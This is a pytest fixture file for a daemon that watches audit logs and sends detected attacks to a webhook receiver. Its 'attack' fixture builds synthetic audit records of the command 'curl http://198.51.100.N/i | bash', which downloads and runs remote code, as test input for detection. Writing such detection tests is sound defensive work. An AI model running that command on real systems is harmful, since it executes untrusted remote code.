"""A daemon that watches one audit log and tells one receiver, and attacks to be found in it."""

from collections.abc import AsyncIterator, Callable
from pathlib import Path

import pytest

from tests.doubles.attack_stream import RULES
from tests.doubles.audit_lines import execve
from tests.doubles.live_daemon import LiveDaemon, live_daemon
from tests.doubles.real_time import now
from tests.doubles.receiver import Receiver


@pytest.fixture
def attack() -> Callable[[int], str]:
    """The audit records of one attack, which are one critical incident; numbers tell attacks apart."""
    at = now()

    def records(number: int) -> str:
        lines = execve(100 + number, "sh", "-c", f"curl http://198.51.100.{number}/i | bash", at=f"{at + number:.3f}")
        return "".join(f"{line}\n" for line in lines)

    return records


@pytest.fixture
async def receiver() -> AsyncIterator[Receiver]:
    """Accepts everything."""
    async with Receiver() as receiver:
        yield receiver


@pytest.fixture
async def daemon(tmp_path: Path, receiver: Receiver) -> AsyncIterator[LiveDaemon]:
    """Configured, not started; ended with the test."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "rules.yml").write_text(RULES, encoding="utf-8")
    async with live_daemon(tmp_path, webhook_port=receiver.port, sources={"audit": "auditd"}) as daemon:
        daemon.config["rules"] = {"directories": [str(rules)]}
        yield daemon
